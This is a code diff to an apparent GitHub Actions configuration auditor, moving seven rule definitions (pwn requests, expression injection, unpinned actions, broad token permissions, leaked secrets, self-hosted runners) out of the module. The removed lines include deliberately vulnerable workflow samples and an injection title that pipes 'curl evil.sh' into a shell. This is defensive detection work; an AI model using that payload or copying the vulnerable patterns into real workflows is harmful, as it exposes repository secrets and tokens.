@@ -7,113 +7,15 @@ from typing import Any, Iterator
 
 import re2
 
-from bastion.config_audit.base import A01, A03, A05, A08, Emitter, rule
+from bastion.config_audit.base import Emitter
+from bastion.config_audit.rules import take
 from bastion.config_audit.yamldoc import YamlDoc, get
 from bastion.model import Confidence, Finding
 
-WORKFLOW = ("yaml",)
-_HARDENING = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
-_PWN = "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
-
-UNTRUSTED_CHECKOUT = rule(
-    "untrusted-checkout", "Privileged workflow checks out and runs pull request code", "critical", "high",
-    (829, 94), A08, WORKFLOW,
-    what="A `pull_request_target` or `workflow_run` workflow checks out the pull request's head and then runs "
-         "commands or local actions.",
-    why="These triggers run with the base repository's secrets and a write token; the PR's build scripts, "
-        "package.json or Makefile are attacker code, which then owns the repository (a 'pwn request').",
-    vulnerable="on: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
-               "      - uses: actions/checkout@v4\n        with:\n"
-               "          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm install && npm test",
-    fixed="on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n"
-          "    steps:\n      - uses: actions/checkout@v4\n      - run: npm install && npm test",
-    references=(_PWN, _HARDENING),
-    fix_guidance="Build untrusted code under `pull_request` (no secrets); pass results to a privileged "
-                 "`workflow_run` job as artifacts treated as data.")
-
-EXPRESSION_INJECTION = rule(
-    "expression-injection", "Attacker-controlled expression in a run script", "high", "high", (94, 78), A03,
-    WORKFLOW,
-    what="A `${{ }}` expression with attacker-controlled data (issue or PR title and body, comment body, head "
-         "branch name, commit message...) inside `run:` or an `actions/github-script` script.",
-    why="The expression is pasted into the script before the shell sees it: a PR titled "
-        "`\"; curl evil.sh | sh #` runs commands with the workflow's token and secrets.",
-    vulnerable='- run: echo "Title: ${{ github.event.issue.title }}"',
-    fixed='- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo "Title: $TITLE"',
-    references=(_HARDENING + "#understanding-the-risk-of-script-injections",
-                "https://securitylab.github.com/resources/github-actions-untrusted-input/"),
-    fix_guidance="Pass the value through an environment variable and quote it in the shell.")
-
-UNPINNED_ACTION = rule(
-    "unpinned-action", "Third-party action not pinned to a commit SHA", "medium", "high", (829, 1357), A08,
-    WORKFLOW,
-    what="`uses: owner/action@v1` (a tag or branch) for an action outside the trusted owners (by default "
-         "`actions` and `github`), or a `docker://` image without a digest.",
-    why="Tags and branches move: whoever controls the action's repository (or steals its maintainer's token, "
-        "as in tj-actions/changed-files) runs code in your pipeline with your secrets.",
-    vulnerable="- uses: tj-actions/changed-files@v44",
-    fixed="- uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67 # v44.5.2",
-    references=(_HARDENING + "#using-third-party-actions",),
-    fix_guidance="Pin the full 40-character commit SHA (with the version in a comment); let Dependabot update it.")
-
-EXCESSIVE_PERMISSIONS = rule(
-    "excessive-permissions", "Workflow token with broad permissions", "medium", "medium", (250, 272), A01,
-    WORKFLOW,
-    what="`permissions: write-all`, or a workflow with no `permissions` block at all (the token then gets the "
-         "repository's default, often read/write on everything).",
-    why="Any compromised step (a dependency, an action, an injection) acts with every permission the token has.",
-    vulnerable="on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make",
-    fixed="on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n"
-          "    steps:\n      - run: make",
-    references=("https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/"
-                "controlling-permissions-for-github_token",),
-    fix_guidance="Declare `permissions: contents: read` at the top and grant more per job only where needed.")
-
-SECRET_IN_LOGS = rule(
-    "secret-in-logs", "Secret printed by a workflow step", "high", "medium", (532,), A05, WORKFLOW,
-    what="A `run:` that echoes or prints `${{ secrets.* }}`, or serialises all secrets with `toJSON(secrets)`.",
-    why="Log masking only hides the exact secret string: any transformation (base64, a substring, JSON "
-        "quoting) shows it to everyone who can read the logs.",
-    vulnerable='- run: echo "token=${{ secrets.DEPLOY_TOKEN }}"',
-    fixed='- run: echo "$DEPLOY_TOKEN" | deploy --token-stdin\n  env:\n    DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}',
-    references=(_HARDENING + "#using-secrets",))
-
-SELF_HOSTED = rule(
-    "self-hosted-runner-untrusted", "Self-hosted runner on pull-request events", "high", "medium", (284, 829), A05,
-    WORKFLOW,
-    what="A job on a `self-hosted` runner in a workflow triggered by pull requests or issue comments.",
-    why="On a public repository anyone can open a pull request; its code runs on your machine, which is not "
-        "wiped between jobs and sits inside your network.",
-    vulnerable="on: pull_request\njobs:\n  test:\n    runs-on: self-hosted",
-    fixed="on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest",
-    references=("https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/"
-                "about-self-hosted-runners#self-hosted-runner-security",))
-
-SECRET_TO_UNTRUSTED = rule(
-    "secret-exposed-to-untrusted-code", "Secrets reachable by pull request code in a privileged workflow", "high",
-    "medium", (522, 829), A08, WORKFLOW,
-    what="In a `pull_request_target` or `workflow_run` job that checks out the pull request's head, a later step "
-         "receives a secret (`${{ secrets.* }}` or `github.token` in its `env`, `with` or script, or in job/"
-         "workflow `env`), or the checkout leaves the token in `.git/config` (`persist-credentials` not false) "
-         "for the steps that follow.",
-    why="After the checkout the workspace is the attacker's: build scripts, package hooks, a poisoned "
-        "`node_modules/.bin` or a config file read by an action run with the step's environment and can send "
-        "every secret it sees anywhere.",
-    vulnerable="on: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
-               "      - uses: actions/checkout@v4\n        with:\n"
-               "          ref: ${{ github.event.pull_request.head.sha }}\n"
-               "      - uses: codecov/codecov-action@v4\n        with:\n"
-               "          token: ${{ secrets.CODECOV_TOKEN }}",
-    fixed="on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
-          "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n"
-          "      - run: npm ci && npm test",
-    references=(_PWN, _HARDENING + "#using-secrets",
-                "https://docs.zizmor.sh/audits/#artipacked"),
-    fix_guidance="Run untrusted code under `pull_request` without secrets; in privileged jobs check out the PR "
-                 "only as data, with `persist-credentials: false`, and give secrets to no step after it.")
-
-RULES = (UNTRUSTED_CHECKOUT, EXPRESSION_INJECTION, UNPINNED_ACTION, EXCESSIVE_PERMISSIONS, SECRET_IN_LOGS,
-         SELF_HOSTED, SECRET_TO_UNTRUSTED)
+RULES = take("untrusted-checkout", "expression-injection", "unpinned-action", "excessive-permissions",
+             "secret-in-logs", "self-hosted-runner-untrusted", "secret-exposed-to-untrusted-code")
+(UNTRUSTED_CHECKOUT, EXPRESSION_INJECTION, UNPINNED_ACTION, EXCESSIVE_PERMISSIONS, SECRET_IN_LOGS, SELF_HOSTED,
+ SECRET_TO_UNTRUSTED) = RULES
 
 _PRIVILEGED_TRIGGERS = {"pull_request_target", "workflow_run"}
 _PR_TRIGGERS = {"pull_request", "pull_request_target", "issue_comment", "pull_request_review",
